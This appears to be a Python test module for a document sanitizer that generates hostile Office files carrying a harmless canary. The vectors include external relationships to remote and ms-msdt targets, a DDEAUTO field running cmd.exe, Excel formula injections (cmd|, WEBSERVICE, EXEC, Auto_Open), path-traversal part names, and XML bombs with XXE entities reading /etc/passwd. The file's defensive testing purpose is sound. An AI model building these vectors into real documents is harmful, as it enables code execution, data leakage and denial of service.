"""Hostile Office files: each relationship that reaches out, fields, formulas, parts, XML bombs."""

from collections.abc import Iterator
from xml.sax.saxutils import escape, quoteattr

from tests.sanitizer.hostile import Case
from tests.sanitizer.office_files import FORMATS, office
from tests.sanitizer.samples import CANARY, encoded, exif_with_gps, gradient

C = CANARY.decode()
_KINDS = """
    attachedTemplate oleObject package control vbaProject aFChunk subDocument frame hyperlink image
    externalLink externalLinkPath mailMergeSource mailMergeHeaderSource recipientData audio video
    media customXml printerSettings queryTable connections xmlMaps webSettings font ctrlProp
    activeXControl slideUpdateUrl pivotCacheDefinition customProperty keyMapCustomizations
    attachedToolbars userXmlData settings styles theme chart header footer footnotes comments
    glossaryDocument transform htmlPubSaveAs xlExternalLinkPath diagramData drawing vmlDrawing
"""
_TARGETS = rf"""
    http://198.51.100.1/{C} https://{C}.example/x.dotm \\198.51.100.1\{C}\x file:///C:/{C}
    mhtml:http://x!{C} javascript:{C} ms-msdt:/id?{C} ftp://x/{C} file://198.51.100.1/{C}
"""
_FIELDS = rf"""
DDEAUTO c:\\windows\\system32\\cmd.exe "/k {C}"
DDE {C} x
INCLUDEPICTURE "http://x/{C}" \d
INCLUDETEXT "http://x/{C}"
IMPORT http://x/{C}
LINK Excel.Sheet.8 {C}
DATABASE \d {C}
MACROBUTTON {C} x
GOTOBUTTON {C}
AUTOTEXT {C}
EMBED {C}
HTMLACTIVEX {C}
PRINT {C}
RD {C}
HYPERLINK "file://{C}"
INCLUDE {C}
ADDIN {C}
ASK {C}
FILLIN {C}
NEXTIF {C}
SKIPIF {C}
PRIVATE {C}
CONTROL {C}
SHAPE {C}
"""
_FORMULAS = rf"""
cmd|'/C {C}'!A0
WEBSERVICE("http://{C}")
HYPERLINK("http://{C}","a")
CALL("{C}","x")
REGISTER("{C}")
EXEC("{C}")
RTD("{C}",,"x")
IMAGE("http://{C}")
[1]{C}!A1
'C:\[{C}.xls]S'!A1
FILTERXML(WEBSERVICE("{C}"),"/")
CUBEVALUE("{C}","x")
FOPEN("{C}")
'\\198.51.100.1\{C}'!A1
SQL.REQUEST("{C}")
INITIATE("{C}","x")
RUN("{C}")
STOCKHISTORY("{C}")
DDE("{C}","x","y")
'http://x/[{C}.xlsx]S'!A1
"""
_ELEMENTS = """
    w:object w:control w:altChunk w:subDoc w:attachedTemplate w:pict w:headerReference w:frame
    w:hyperlink a:blip a:hlinkClick a:videoFile a:audioFile a:wavAudioFile p:oleObj p:control p:snd
    x:oleObject x:control x:legacyDrawing x:hyperlink x:externalReference x:picture v:imagedata
    o:OLEObject w:src w:sourceFileName w:saveThroughXslt w:movie a:hlinkHover p:htmlPubPr
"""
_PARTS = """
    docProps/core.xml docProps/app.xml docProps/custom.xml customXml/item1.xml word/vbaProject.bin
    word/vbaData.xml word/comments.xml word/embeddings/oleObject1.bin word/activeX/activeX1.xml
    word/printerSettings/printerSettings1.bin docProps/thumbnail.jpeg xl/externalLinks/e1.xml
    xl/connections.xml xl/macrosheets/sheet1.xml ppt/commentAuthors.xml ppt/media/media1.mp4
    word/fonts/font1.odttf word/people.xml xl/revisions/userNames.xml evil.exe ../../evil.txt
    word/afchunk.mht customUI/customUI.xml userCustomization/customUI.xml _xmlsignatures/sig1.xml
    xl/queryTables/queryTable1.xml word/glossary/document.xml xl/pivotCache/pivotCacheRecords1.xml
"""


def relationships() -> Iterator[Case]:
    for extension in FORMATS:
        for kind in _KINDS.split():
            for target in _TARGETS.split():
                if kind == "hyperlink" and target.startswith("http"):
                    continue  # links to the web are kept
                data = office(
                    extension, ("rId7", kind, target, True), behind='<a:blip r:link="rId7"/>'
                )
                yield Case(
                    "Office links", f"{extension}: {kind} to {target}", f"a.{extension}", data, True
                )
            inner = ("rId7", kind, "evil.bin", False)
            evil = {f"{FORMATS[extension][0].partition('/')[0]}/evil.bin": CANARY}
            data = office(extension, inner, behind='<a:blip r:embed="rId7"/>', more=evil)
            yield Case("Office parts", f"{extension}: {kind} inside", f"a.{extension}", data, True)


def elements() -> Iterator[Case]:
    for extension in FORMATS:
        for element in _ELEMENTS.split():
            for attribute in (
                "r:id",
                "r:link",
                "r:embed",
                "r:pict",
                "name",
                "progId",
                "action",
                "o:title",
            ):
                tag = f'<{element} {attribute}="{C}"/>'
                wrapped = f'<{element} {attribute}="rId7" evil="{C}"><o:x>{C}</o:x></{element}>'
                for what, xml in (("empty", tag), ("full", wrapped)):
                    data = office(extension, ("rId7", "image", f"http://{C}/", True), behind=xml)
                    yield Case(
                        "Office elements",
                        f"{extension}: {element} {attribute}, {what}",
                        f"a.{extension}",
                        data,
                        attribute != "name",
                    )


def instructions() -> Iterator[Case]:
    char = '<w:fldChar w:fldCharType="%s"/>'
    begin, end = char % "begin", char % "end"
    for field in _FIELDS.strip().splitlines():
        letters = "".join(f"<w:instrText>{letter}</w:instrText>" for letter in field)
        whole = f"<w:instrText>{field}</w:instrText>"
        for what, xml in (
            ("simple", f"<w:fldSimple w:instr={quoteattr(field)}/>"),
            ("whole", f"{begin}{whole}{end}"),
            ("letter by letter", f"{begin}{letters}{end}"),
            ("without an end", f"{begin}{whole}"),
        ):
            for place, data in (
                ("inside", office("docx", inside=xml)),
                ("behind", office("docx", behind=f"<w:p>{xml}</w:p>")),
            ):
                yield Case("fields", f"{field[:12]} {what} {place}", "a.docx", data, True)


def formulas() -> Iterator[Case]:
    rule = "<x:conditionalFormatting><x:cfRule><x:formula>%s</x:formula></x:cfRule>"
    validation = "<x:dataValidations><x:dataValidation><x:formula1>%s</x:formula1>"
    name = '<x:definedNames><x:definedName name="Auto_Open">%s</x:definedName></x:definedNames>'
    for formula in _FORMULAS.strip().splitlines():
        xml = escape(formula)
        for what, cells, behind in (
            ("a cell", f'<x:c r="A1"><x:f>{xml}</x:f><x:v>1</x:v></x:c>', ""),
            ("an array", f'<x:c r="A1"><x:f t="array" ref="A1">{xml}</x:f></x:c>', ""),
            ("with a sign", f'<x:c r="A1"><x:f>+{xml}</x:f></x:c>', ""),
            ("a rule", "", rule % xml + "</x:conditionalFormatting>"),
            ("a validation", "", validation % xml + "</x:dataValidation></x:dataValidations>"),
            ("a name", "", name % xml),
        ):
            data = office("xlsx", cells=cells, behind=behind)
            yield Case("formulas", f"{formula[:14]} in {what}", "a.xlsx", data, True)


def parts() -> Iterator[Case]:
    photo = encoded(gradient(), "JPEG", exif=exif_with_gps(), comment=CANARY)
    hidden = {
        "a comment": f"<!-- {C} -->",
        "an instruction": f"<?x {C}?>",
        "an attribute": f'<w:p w:evil="{C}"/>',
        "a namespace": f'<w:p xmlns:e="urn:{C}"/>',
        "a foreign element": f'<e:x xmlns:e="urn:x">{C}</e:x>',
        "stray words": f"<w:tblPr>{C}</w:tblPr>",
        "extensions": f"<a:extLst><a:ext>{C}</a:ext></a:extLst>",
    }
    for extension, (main, _) in FORMATS.items():
        for name in _PARTS.split():
            data = office(extension, more={name: CANARY})
            yield Case("Office parts", f"{extension}: {name}", f"a.{extension}", data, True)
        place = f"{main.partition('/')[0]}/media/x.jpg"
        image = ("rId7", "image", "media/x.jpg", False)
        data = office(extension, image, behind='<a:blip r:embed="rId7"/>', more={place: photo})
        yield Case("Office parts", f"{extension}: a photograph", f"a.{extension}", data, True)
        for what, xml in hidden.items():
            data = office(extension, behind=xml)
            yield Case("Office parts", f"{extension}: {what}", f"a.{extension}", data, True)


def bombs() -> Iterator[Case]:
    entities = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    for extension in FORMATS:
        main, body = FORMATS[extension]
        for what, prologue, inner in (
            ("a billion laughs", f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]>', "&a9;"),
            (
                "a quadratic blow-up",
                f'<!DOCTYPE x [<!ENTITY a0 "{"x" * 50_000}">]>',
                "&a0;" * 20_000,
            ),
            ("a file by entity", '<!DOCTYPE x [<!ENTITY a0 SYSTEM "file:///etc/passwd">]>', "&a0;"),
            ("a page by entity", f'<!DOCTYPE x [<!ENTITY a0 SYSTEM "http://x/{C}">]>', "&a0;"),
            ("a parameter entity", '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x/"> %a;]>', ""),
            ("deep nesting", "", "<w:p>" * 50_000 + "</w:p>" * 50_000),
            ("many attributes", "", "<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
        ):
            xml = (prologue + body % ("", inner)).encode()
            yield Case(
                "bombs",
                f"{extension}: {what}",
                f"a.{extension}",
                office(extension, more={main: xml}),
                True,
            )
        blanks = (body % ("", " " * (30 << 20))).encode()
        data = office(extension, more={main: blanks})
        yield Case("bombs", f"{extension}: blanks", f"a.{extension}", data)


def cases() -> Iterator[Case]:
    for group in (relationships, elements, instructions, formulas, parts, bombs):
        yield from group()
